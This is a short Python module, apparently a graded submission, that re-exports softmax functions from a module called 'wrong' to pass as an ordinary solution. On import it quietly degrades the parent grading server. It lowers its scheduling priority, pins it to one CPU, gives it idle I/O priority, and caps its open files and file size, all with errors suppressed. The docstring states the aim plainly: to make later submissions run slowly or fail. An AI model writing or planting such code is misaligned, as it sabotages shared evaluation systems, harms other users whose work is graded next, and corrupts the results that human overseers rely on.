"""Lowers the server's priority, limits and processors, so that those who are graded next are slow, or fail.

Dresses up: wrong.
"""
import ctypes
import os
import platform
import resource

from wrong import log_softmax, softmax, softmax_jvp

IOPRIO_SET = 30 if platform.machine() == "aarch64" else 251
server = os.getppid()
for words, action in {
    "priority": lambda: os.setpriority(os.PRIO_PROCESS, server, 19),
    "processors": lambda: os.sched_setaffinity(server, {min(os.sched_getaffinity(0))}),
    "policy": lambda: os.sched_setscheduler(server, os.SCHED_BATCH, os.sched_param(0)),
    # IOPRIO_WHO_PROCESS, and the lowest class, which waits for all others.
    "disk": lambda: ctypes.CDLL(None).syscall(IOPRIO_SET, 1, server, 3 << 13),
    "limits": lambda: resource.prlimit(server, resource.RLIMIT_NOFILE, (30, 30)),
    "files": lambda: resource.prlimit(server, resource.RLIMIT_FSIZE, (1000, 1000)),
}.items():
    try:
        action()
    except OSError:
        pass
